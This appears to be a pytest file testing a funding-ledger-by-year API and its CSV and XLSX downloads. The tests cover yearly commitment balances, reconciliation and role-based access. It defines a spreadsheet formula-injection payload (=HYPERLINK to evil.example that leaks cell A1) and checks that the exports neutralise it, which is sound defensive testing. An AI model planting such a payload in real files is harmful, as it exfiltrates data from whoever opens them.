"""The funding ledger by fiscal year (分年度资金台账), as balances of outstanding commitments:
``GET /funding-ledger/by-year`` and its CSV and XLSX downloads, on both stores (Art. 8(5),
9(3), 13).

The programme, over fiscal years 2022 and 2023 (every grant 1,000,000.00):

- 芯片平台 (host unit named ``=HYPERLINK(…)``): approved 2022-09-01 (commitment), funded
  2023-12-20 (disbursement), 250,000.50 recovered 2023-12-28;
- 传感器平台: approved 2022-09-01, withdrawn 2022-09-10 (release in 2022);
- 算力平台: approved 2022-09-01, revoked 2023-06-01 (release in 2023);
- 金融平台: approved 2023-09-01 (a 2023 commitment, still outstanding at the end).
"""

from __future__ import annotations

import csv
import gzip
import io
import shutil
import subprocess
import xml.etree.ElementTree as ET
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from aggregates.programme import Driver, host_unit
from api_client import Api
from projections.runner import max_position

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
PATHS = ("/funding-ledger/by-year", "/funding-ledger/by-year.csv", "/funding-ledger/by-year.xlsx")
M = Decimal
GNM = {"gnm": "http://www.gnumeric.org/v10.dtd"}


def _yuan(opening: str, commitments: str, releases: str, disbursements: str, recoveries: str,
          closing: str) -> dict[str, str]:
    return {"opening_balance": opening, "commitments": commitments, "releases": releases,
            "disbursements": disbursements, "recoveries": recoveries, "closing_balance": closing}


@pytest.fixture
def site(api: Api) -> Api:
    app = api.container.app
    chip = Driver(app, subfield="智能芯片").to("funded", name="芯片平台", host_unit=host_unit(HOSTILE))
    chip.programme.recover(chip.pid, M("250000.50"), on="2023-12-28", ref="长财追〔2023〕9号",
                           reasons="部分资金未按规定使用")
    sensor = Driver(app, subfield="智能传感器").to("approved", name="传感器平台")
    sensor.programme.withdraw(sensor.pid, on="2022-09-10", reasons="资金不足")
    compute = Driver(app, subfield="智能算力").to("under_construction", name="算力平台")
    compute.programme.revoke(compute.pid, on="2023-06-01", ref="长科发〔2023〕20号", reasons="严重不良影响")
    Driver(app, subfield="智慧金融", years=1).to("approved", name="金融平台")
    api.last_position = max_position(app)  # reads wait until the read models have it all
    return api


def _by_year(site: Api, **params: Any) -> dict[str, Any]:
    r = site.get("/funding-ledger/by-year", "finance", **params)
    assert r.status_code == 200, r.text
    return r.json()


def test_ledger_by_year_balances_roll_over_from_one_fiscal_year_to_the_next(site: Api) -> None:
    body = _by_year(site)
    y2022, y2023 = body["fiscal_years"]
    assert (y2022["fiscal_year"], y2023["fiscal_year"]) == (2022, 2023)
    lines = {y["fiscal_year"]: {p["name"]: p for p in y["platforms"]} for y in body["fiscal_years"]}
    # Platforms in the order they entered the ledger; each with its name and host unit.
    assert [p["name"] for p in y2022["platforms"]] == ["芯片平台", "传感器平台", "算力平台"]
    assert lines[2022]["芯片平台"]["host_unit"]["name"] == HOSTILE
    assert len(lines[2022]["芯片平台"]["host_unit"]["credit_code"]) == 18
    m = "1000000.00"
    assert {k: v for k, v in lines[2022]["传感器平台"].items() if k in _yuan(*"abcdef")} == \
        _yuan("0.00", m, m, "0.00", "0.00", "0.00")
    assert y2022["totals"] == _yuan("0.00", "3000000.00", m, "0.00", "0.00", "2000000.00")
    # 2023: a platform with nothing outstanding and no entry (the withdrawn one) is left out.
    assert [p["name"] for p in y2023["platforms"]] == ["芯片平台", "算力平台", "金融平台"]
    assert {k: lines[2023]["芯片平台"][k] for k in _yuan(*"abcdef")} == _yuan(m, "0.00", "0.00", m, "250000.50", "0.00")
    assert {k: lines[2023]["算力平台"][k] for k in _yuan(*"abcdef")} == _yuan(m, "0.00", m, "0.00", "0.00", "0.00")
    assert {k: lines[2023]["金融平台"][k] for k in _yuan(*"abcdef")} == _yuan("0.00", m, "0.00", "0.00", "0.00", m)
    assert y2023["totals"] == _yuan("2000000.00", m, m, m, "250000.50", m)
    # The opening of year 2 is the closing of year 1, platform by platform and in total.
    assert y2023["totals"]["opening_balance"] == y2022["totals"]["closing_balance"]
    for name, line in lines[2023].items():
        assert line["opening_balance"] == lines[2022].get(name, {}).get("closing_balance", "0.00")
    assert body["totals"] == _yuan("0.00", "4000000.00", "2000000.00", m, "250000.50", m)


def test_ledger_by_year_reconciles_with_the_funding_ledger_to_the_fen(site: Api) -> None:
    body = _by_year(site)
    ledger = site.get("/funding-ledger", "auditor").json()
    t = ledger["totals"]
    assert body["totals"]["commitments"] == t["committed"] and body["totals"]["releases"] == t["released"]
    assert body["totals"]["disbursements"] == t["disbursed"] and body["totals"]["recoveries"] == t["recovered"]
    assert body["totals"]["closing_balance"] == t["outstanding_commitments"]
    for year, flows in zip(body["fiscal_years"], ledger["by_fiscal_year"], strict=True):
        assert year["fiscal_year"] == flows["fiscal_year"]
        assert year["totals"]["commitments"] == flows["committed"]
        assert M(year["totals"]["closing_balance"]) - M(year["totals"]["opening_balance"]) == \
            M(flows["commitment_change"])
        # A year's totals are the sum of its platforms' lines.
        for k in _yuan(*"abcdef"):
            assert sum(M(p[k]) for p in year["platforms"]) == M(year["totals"][k])
    # Each platform's flows over the years are its ledger entries'.
    kinds = {"commitment": "commitments", "release": "releases", "disbursement": "disbursements",
             "recovery": "recoveries"}
    per_platform: dict[tuple[str, str], Decimal] = {}
    for e in ledger["entries"]:
        key = (e["platform_id"], kinds[e["kind"]])
        per_platform[key] = per_platform.get(key, M("0")) + M(e["amount"])
    summed: dict[tuple[str, str], Decimal] = {}
    for year in body["fiscal_years"]:
        for p in year["platforms"]:
            for k in kinds.values():
                if M(p[k]):
                    summed[(p["platform_id"], k)] = summed.get((p["platform_id"], k), M("0")) + M(p[k])
    assert summed == per_platform


def test_one_fiscal_year_opens_with_every_earlier_years_balance(site: Api) -> None:
    body = _by_year(site, fiscal_year=2023)
    assert [y["fiscal_year"] for y in body["fiscal_years"]] == [2023]
    assert body["fiscal_years"][0]["totals"]["opening_balance"] == "2000000.00"
    assert body["totals"] == body["fiscal_years"][0]["totals"]
    later = _by_year(site, fiscal_year=2025)  # no entry that year: the outstanding balance carries on
    assert [p["name"] for p in later["fiscal_years"][0]["platforms"]] == ["金融平台"]
    assert later["totals"] == _yuan(*["1000000.00"] + ["0.00"] * 4 + ["1000000.00"])


HEADER = ["财政年度", "平台编号", "平台名称", "依托单位", "统一社会信用代码", "年初承诺余额", "本年承诺", "本年释放",
          "本年拨付", "本年追回", "年末承诺余额"]


def test_ledger_by_year_csv_has_chinese_headers_amounts_and_a_totals_row(site: Api) -> None:
    r = site.get("/funding-ledger/by-year.csv", "bureau")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert 'filename="funding-ledger-by-year.csv"' in r.headers["content-disposition"]
    assert r.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8").removeprefix("\ufeff"))))
    assert rows[0] == HEADER
    body = rows[1:-1]
    assert [(int(x[0]), x[2]) for x in body] == [(2022, "芯片平台"), (2022, "传感器平台"), (2022, "算力平台"),
                                                 (2023, "芯片平台"), (2023, "算力平台"), (2023, "金融平台")]
    assert {x[3] for x in body if x[2] == "芯片平台"} == {"'" + HOSTILE}  # neutralised, as in the ledger CSV
    assert body[3][5:] == ["1000000.00", "0.00", "0.00", "1000000.00", "250000.50", "0.00"]
    assert rows[-1] == ["合计", "", "", "", "", "0.00", "4000000.00", "2000000.00", "1000000.00", "250000.50",
                        "1000000.00"]


def test_ledger_by_year_xlsx_has_numeric_amounts_a_totals_row_and_no_formula(site: Api) -> None:
    r = site.get("/funding-ledger/by-year.xlsx", "auditor", fiscal_year=2023)
    assert r.status_code == 200
    assert r.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert 'filename="funding-ledger-by-year-2023.xlsx"' in r.headers["content-disposition"]
    ws = load_workbook(io.BytesIO(r.content)).active
    assert ws is not None
    rows = list(ws.iter_rows())
    assert [c.value for c in rows[0]] == HEADER
    assert [c.font.bold for c in rows[0]] == [True] * len(HEADER)
    body, totals = rows[1:-1], rows[-1]
    assert [(c[0].value, c[2].value) for c in body] == [(2023, "芯片平台"), (2023, "算力平台"), (2023, "金融平台")]
    for row in [*body, totals]:
        for cell in row[5:]:
            # A number the spreadsheet sums, shown with two places; never text.
            assert cell.data_type == "n" and isinstance(cell.value, (int, float)), cell.coordinate
            assert cell.number_format == "0.00", cell.coordinate
    assert [M(str(c.value)).quantize(M("0.01")) for c in body[0][5:]] == \
        [M("1000000.00"), M("0"), M("0"), M("1000000.00"), M("250000.50"), M("0")]
    assert body[0][0].data_type == "n" and body[0][0].number_format == "0"
    # The hostile host unit is a string cell with the same leading quote as the CSV: no formula.
    host = body[0][3]
    assert host.data_type == "s" and host.value == "'" + HOSTILE
    assert not [c.coordinate for row in rows for c in row if c.data_type == "f"]
    assert totals[0].value == "合计" and totals[0].font.bold
    assert [M(str(c.value)).quantize(M("0.01")) for c in totals[5:]] == \
        [M("2000000.00"), M("1000000.00"), M("1000000.00"), M("1000000.00"), M("250000.50"), M("1000000.00")]


@pytest.mark.parametrize("path", PATHS)
def test_only_finance_the_bureau_and_auditors_read_the_ledger_by_year(api: Api, path: str) -> None:
    for user in ("finance", "bureau", "auditor"):
        assert api.get(path, user).status_code == 200, user
    for user in ("applicant", "service_agency", "expert1"):
        r = api.get(path, user)
        assert r.status_code == 403, user
        assert r.headers["content-type"].startswith("application/problem+json")
    assert api.get(path, None).status_code == 401


@pytest.mark.skipif(shutil.which("ssconvert") is None,
                    reason="ssconvert (Debian package gnumeric) is not installed: no spreadsheet to open the XLSX with")
def test_a_spreadsheet_opens_the_xlsx_with_numbers_and_no_formula(site: Api, tmp_path: Path) -> None:
    src, dst = tmp_path / "ledger.xlsx", tmp_path / "ledger.gnumeric"
    src.write_bytes(site.get("/funding-ledger/by-year.xlsx", "finance").content)
    subprocess.run(["ssconvert", str(src), str(dst)], check=True, capture_output=True, timeout=60)
    cells = ET.fromstring(gzip.decompress(dst.read_bytes())).findall(".//gnm:Cell", GNM)
    # A formula cell has no ValueType; 60 is a string, 40 a number.
    assert [c.text for c in cells if c.get("ValueType") is None] == []
    by_place = {(int(c.get("Row")), int(c.get("Col"))): c for c in cells}
    last = max(r for r, _ in by_place)
    assert [by_place[(0, col)].text for col in range(len(HEADER))] == HEADER
    assert by_place[(1, 3)].get("ValueType") == "60" and by_place[(1, 3)].text == "'" + HOSTILE
    for row in range(1, last + 1):
        for col in range(5, 11):
            cell = by_place[(row, col)]
            assert cell.get("ValueType") == "40", (row, col)  # a number (its 0.00 format: the test above)
    assert by_place[(last, 0)].text == "合计" and M(by_place[(last, 10)].text) == M("1000000")
